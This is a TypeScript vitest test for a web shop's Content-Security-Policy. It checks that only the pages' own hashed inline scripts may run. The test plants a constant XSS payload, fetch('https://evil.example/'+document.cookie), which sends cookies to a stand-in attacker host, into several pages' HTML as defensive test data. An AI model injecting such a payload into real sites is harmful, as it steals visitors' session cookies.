import type { ServerBuild } from 'react-router';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { scriptHash } from '#platform/pages/finish-page.ts';
import type { PageBundle } from '#platform/pages/page-bundle.ts';
import { builtScreens } from '#test/fixtures/built-screens.ts';
import { castOf, makeProduct } from '#test/fixtures/cast.ts';
import { ONE_ENGINE, startTestShop, type TestShop } from '#test/fixtures/shop.ts';

const PLANTED = 'fetch("https://evil.example/"+document.cookie)';

let shop: TestShop;
beforeAll(async () => {
  const pages = await builtScreens();
  const bundle = await pages.bundle();
  shop = await startTestShop(ONE_ENGINE, {
    pages: { ...pages, bundle: async () => ({ ...bundle, build: planting(bundle) }) },
  });
  await makeProduct(shop, (await castOf(shop)).deccan.sellerId, { slug: 'nandi-5' });
});
afterAll(() => shop.end());

/** The screens with a fault that lets somebody's script into the HTML of every page, at its head and at its end. */
function planting({ build, unfinishedPage }: PageBundle): ServerBuild {
  const { default: render, ...others } = build.entry.module;
  const faulty: typeof render = async (...given) => {
    const answer = await render(...given);
    const page = given[4].get(unfinishedPage);
    page.html = (page.html ?? '')
      .replace('<head>', `<head><script>${PLANTED}</script>`)
      .replace('</body>', `<script type="module" async="">${PLANTED}</script></body>`);
    return answer;
  };
  return { ...build, entry: { ...build.entry, module: { ...others, default: faulty } } };
}

it.each(['/', '/product/nandi-5', '/shop/listing', '/ticket', '/nowhere'])(
  'a script that got into the HTML of %s is not allowed to run, and those of the page are (D5b)',
  async url => {
    const { body, headers } = await shop.guest.inject({ url });
    const policy = String(headers['content-security-policy']);
    expect(body).toContain(PLANTED);
    expect(policy).not.toContain(scriptHash(PLANTED));
    expect(body).not.toContain(' nonce=');
    const inline = [...body.matchAll(/<script(?![^>]*(?:\ssrc=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g)];
    const own = inline.map(([, text = '']) => text).filter(text => text !== PLANTED);
    expect(own.length).toBeGreaterThan(3);
    for (const text of own) expect(policy).toContain(`'sha256-${scriptHash(text)}'`);
  },
);
